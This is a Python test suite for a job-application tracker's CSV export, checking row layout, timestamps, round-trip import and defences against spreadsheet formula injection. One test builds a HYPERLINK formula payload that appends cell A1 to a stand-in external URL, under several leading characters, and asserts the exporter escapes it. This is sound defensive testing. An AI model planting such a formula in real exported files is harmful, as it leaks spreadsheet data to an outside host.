"""The record as a table that a spreadsheet may open and an import reads back."""

import csv
import io
import json
from datetime import date, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from coach.domain.applications import Application, Contact, Event, EventKind
from coach.domain.messages import Kind
from coach.exporting import to_csv
from tests.exporting.samples import BARE, FULL, records
from tests.importing.reading_files import read

HEADER = (
    "company,role,stage,applied_on,link,location,source,notes,contacts,"
    "event,at,on,ended_at,round,type,contact,note,request,request_id,promised_on,channel,text"
)
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
RISKY = (*SIGNS, "'")


def rows_of(*applications: Application) -> list[dict[str, str]]:
    text = to_csv(applications).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_an_empty_record_has_a_header_only() -> None:
    assert to_csv([]) == b"\xef\xbb\xbf" + HEADER.encode() + b"\r\n"


def test_every_row_is_an_event_and_repeats_its_application() -> None:
    rows = rows_of(FULL)
    assert [row["event"] for row in rows] == [event.kind for event in FULL.events]
    assert {(row["company"], row["role"], row["notes"]) for row in rows} == {(FULL.company, FULL.role, FULL.notes)}
    assert json.loads(rows[0]["contacts"])[1] == {"name": "Tom Ågren"}


def test_an_application_without_events_has_one_row() -> None:
    [row] = rows_of(BARE)
    assert {key: value for key, value in row.items() if value} == {"company": "Apex", "stage": "saved"}


def test_instants_keep_their_offset_and_plain_dates_stay_plain() -> None:
    applied, interview, promise, *_, note = rows_of(FULL)
    assert (applied["at"], applied["on"]) == ("", "2026-04-20")
    assert (interview["at"], interview["on"]) == ("2026-05-04T22:30:00+00:00", "")
    assert interview["ended_at"] == "2026-05-04T23:15:00.000007+00:00"
    assert promise["promised_on"] == "2026-05-11"
    assert note["text"] == "Dear Ms Osei,\r\nthank you."


@pytest.mark.parametrize("sign", [*RISKY, " =", " \u00a0\u3000@", "'="])
def test_no_cell_can_be_taken_for_a_formula(sign: str) -> None:
    evil = f'{sign}HYPERLINK("https://elsewhere.example?"&A1)'
    event = Event(
        EventKind.NOTE_SENT, on=date(2026, 5, 4), note=Kind.THANK_YOU, contact=evil, request_id=evil, text=evil
    )
    application = Application(evil, evil, evil, evil, evil, notes=evil, contacts=(Contact(evil),), events=(event,))
    [row] = rows_of(application)
    changed = ("company", "role", "link", "location", "source", "notes", "contact", "request_id", "text")
    assert {row[name] for name in changed} == {f"'{evil}"}
    assert not any(cell.startswith(RISKY[:-1]) for cell in row.values())


@pytest.mark.parametrize("text", ["a=b", " a=1", "50%", "it's", "", '"quoted"', "a;b,c\td", "x\n=1"])
def test_other_cells_are_left_alone(text: str) -> None:
    [row] = rows_of(Application("Apex", notes=text))
    assert row["notes"] == text


def test_half_a_character_does_not_stop_the_export() -> None:
    [row] = rows_of(Application("Apex \ud83d"))
    assert row["company"] == "Apex ?"


@given(records)
def test_every_value_can_be_read_back(record: tuple[Application, ...]) -> None:
    rows = iter(rows_of(*record))
    for application in record:
        for event in application.events or (None,):
            row = {
                key: cell[1:]
                if cell.startswith("'") and (cell[1:].startswith(RISKY) or cell[1:].lstrip().startswith(RISKY))
                else cell
                for key, cell in next(rows).items()
            }
            assert row["company"] == application.company
            assert row["notes"] == (application.notes or "")
            people = json.loads(row["contacts"] or "[]")
            assert tuple(Contact(**one) for one in people) == application.contacts
            assert row["event"] == (event.kind if event else "")
            if event and event.at:
                assert datetime.fromisoformat(row["at"]) == event.at
            assert row["text"] == ((event and event.text) or "")
    assert next(rows, None) is None


@given(st.lists(st.sampled_from([*RISKY, " ", "\u3000", '"', "'", "a", ",", ";"]), min_size=1, max_size=5).map("".join))
@example("'=")
@example("' =")
@example(" '")
def test_what_looks_like_a_formula_comes_back_by_an_import(text: str) -> None:
    text = text.replace("\0", "")  # what an import leaves out of any file
    given_ = Application("Apex", "Baker", notes=f"{text}1", events=(Event(EventKind.APPLIED, on=date(2026, 5, 4)),))
    (row,) = rows_of(given_)
    assert not row["notes"].lstrip().startswith(SIGNS)
    (read_,) = read(to_csv([given_])).applications
    assert read_.application.notes == given_.notes
